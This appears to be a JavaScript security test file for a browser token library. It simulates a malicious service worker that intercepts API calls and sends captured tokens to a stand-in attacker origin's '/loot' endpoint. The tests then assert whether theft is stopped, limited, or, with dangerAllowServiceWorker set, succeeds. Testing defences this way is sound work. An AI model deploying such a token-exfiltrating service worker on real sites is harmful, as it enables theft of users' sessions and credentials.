// T42: a service worker of the attacker's, whose scope covers the holder's file. No policy is in its way here; what keeps
// it out is tried in places.test.mjs.

import assert from "node:assert/strict";

import { codeOf, resume, send, statusOf } from "../browser/support/calls.mjs";
import { isIntercepted, register, serviceWorker } from "../browser/support/service-worker.mjs";
import { until } from "../browser/support/until.mjs";
import { attack, withTheApp } from "./support/attack.mjs";

const row = { id: "T42", threat: "S20", modes: withTheApp };
const secret = ["code", "code verifier", "refresh token", "ID token"];
const dpop = { as: { dpop: true }, api: { dpop: true } };

attack(
  { ...row, title: "a service worker that was there first: nobody signs in behind it (SW-1)", when: ["early"], outcome: "stopped" },
  async (rig) => {
    await plant(rig, await rig.open("/bare.html"), { manner: "answers" });
    const page = await rig.open();
    const { error } = await page.evaluate(() => app.outcome(() => app.auth.signIn()));
    assert.equal(error.code, "TOKENKEEP_INTERCEPTED");
    for (const way of ["Clear-Site-Data", "scope", "origin of its own", "dangerAllowServiceWorker"])
      assert.match(error.message, new RegExp(way));
    assert.deepEqual([rig.as.counts.exchanges, rig.stolen()], [0, []]);
    return ["stopped", "signIn() refuses"];
  },
);

attack(
  { ...row, title: "one that claims what runs: the next call is what it gets (SW-1, SW-2)", when: ["late"], outcome: "limited" },
  async (rig) => {
    const page = await claimed(rig, { manner: "answers" });
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    await ended(page);
    assert.equal(await codeOf(page, rig.v1("files")), "TOKENKEEP_INTERCEPTED");
    await page.evaluate(() => app.outcome(() => app.auth.signIn())).then(({ error }) => assert.equal(error.code, "TOKENKEEP_INTERCEPTED"));
    assert.deepEqual([rig.stolen(...secret), rig.as.counts.refreshes, rig.as.counts.revocations], [[], 0, 0]);
    await until(() => rig.stolen("access token").length > 0, "what it saw");
    assert.deepEqual(calls(rig), ["/v1/files"]);
    return ["limited", "1 call went out before it was noticed, with its access token; then the session is over"];
  },
);

attack(
  { ...row, title: "the same with tokens that are bound to a key (SW-1, SW-2)", when: ["late"], rig: dpop, outcome: "stopped" },
  async (rig) => {
    const page = await claimed(rig, { manner: "looks" });
    await send(page, rig.v1("files"));
    await ended(page);
    const [token] = rig.secrets("access token");
    await until(() => rig.evil.text().includes(token.value), "what it saw");
    const { status } = await rig.fromOutside(rig.v1("files"), { headers: { authorization: `DPoP ${token.value}` } });
    assert.equal(status, 401);
    return ["stopped", "what it saw is of no use elsewhere"];
  },
);

for (const manner of ["answers", "withholds"]) {
  const what = { answers: "that reads", withholds: "that keeps to itself" }[manner];
  attack(
    { ...row, title: `one that claims what runs, and ${what} the refresh (SW-1)`, when: ["late"], outcome: "stopped" },
    async (rig) => {
      const page = await claimed(rig, { manner });
      rig.as.expireAccessTokens();
      const code = await codeOf(page, rig.v1("files"));
      const isStolen = () => rig.stolen("refresh token").length > 0;
      // What a service worker has seen takes its own way to the attacker.
      await until(async () => isStolen() || (await isIntercepted(page)), "what comes of it");
      if (isStolen()) return rig.verdict("refresh token");
      assert.ok([undefined, "TOKENKEEP_INTERCEPTED"].includes(code), code);
      await ended(page);
      assert.deepEqual([rig.stolen(...secret), rig.as.counts.refreshes], [[], 0]);
      return ["stopped", "the refresh token is not sent"];
    },
  );
}

attack(
  {
    ...row,
    title: "one that claims what runs, and answers the revocation in the server's place (SW-5)",
    when: ["late"],
    outcome: "stopped",
  },
  async (rig) => {
    const page = await claimed(rig, { manner: "swallows" });
    const { value } = await page.evaluate(() => app.outcome(() => app.auth.signOut()));
    assert.equal(value.revocation, "unconfirmed");
    assert.deepEqual([rig.stolen(...secret), rig.as.counts.revocations], [[], 0]);
    return ["stopped", "told as unconfirmed, the token is not sent"];
  },
);

attack(
  {
    ...row,
    title: "the same where dangerAllowServiceWorker lets it",
    when: ["late"],
    rig: { config: { dangerAllowServiceWorker: true } },
    outcome: "works",
  },
  async (rig) => {
    const page = await claimed(rig, { manner: "answers" });
    rig.as.expireAccessTokens();
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    await until(() => rig.stolen("refresh token").length > 0, "the refresh token");
    return rig.verdict("access token", "refresh token");
  },
);

attack(
  {
    ...row,
    title: "one of the app's origin, where the holder has another (SW-1, OWN-2)",
    modes: ["own"],
    when: ["early", "late"],
    outcome: "stopped",
  },
  async (rig, { when }) => {
    if (when === "early") await plant(rig, await rig.open("/bare.html"), { manner: "answers" });
    const page = when === "early" ? await rig.signedIn() : await claimed(rig, { manner: "answers" });
    await page.reload();
    assert.ok((await resume(page)).value, "it is in nobody's way");
    rig.as.expireAccessTokens();
    assert.equal(await statusOf(page, rig.v1("files")), 200);
    await until(() => rig.evil.loot().some((text) => text.includes("/app.js")), "what it saw");
    assert.deepEqual(await page.evaluate(() => app.auth.signOut()), { revocation: "confirmed" });
    await rig.signIn(page);
    const elsewhere = [rig.origins.api, rig.origins.as, rig.origins.auth];
    assert.deepEqual(
      rig.evil
        .loot()
        .map((text) => text.split("\n")[1] ?? "")
        .filter((url) => elsewhere.some((one) => url.startsWith(one))),
      [],
    );
    return rig.verdict(...secret, "access token", "state", "nonce", "code challenge");
  },
);

/** A page that is signed in, and which a service worker has claimed since, with its workers. */
async function claimed(rig, options) {
  const page = await rig.signedIn();
  assert.equal(await statusOf(page, rig.v1("files")), 200);
  rig.sinceNow();
  await plant(rig, page, options);
  await page.waitForFunction(() => navigator.serviceWorker.controller);
  return page;
}

async function plant(rig, page, options) {
  rig.shown.files["/sw.js"] = () => serviceWorker({ sink: `${rig.origins.evil}/loot`, ...options });
  assert.equal(await page.evaluate(register, { url: "/sw.js", scope: "/" }), "activated");
}

/** Resolves when the session is over because of it. */
async function ended(page) {
  await until(() => isIntercepted(page), "the end of the session");
  assert.equal(await page.evaluate(() => app.auth.session), null);
}

/** The paths of the API that it saw a call to. */
const calls = (rig) =>
  rig.evil
    .loot()
    .filter((text) => text.includes("authorization"))
    .map((text) => new URL(text.split("\n")[1]).pathname);
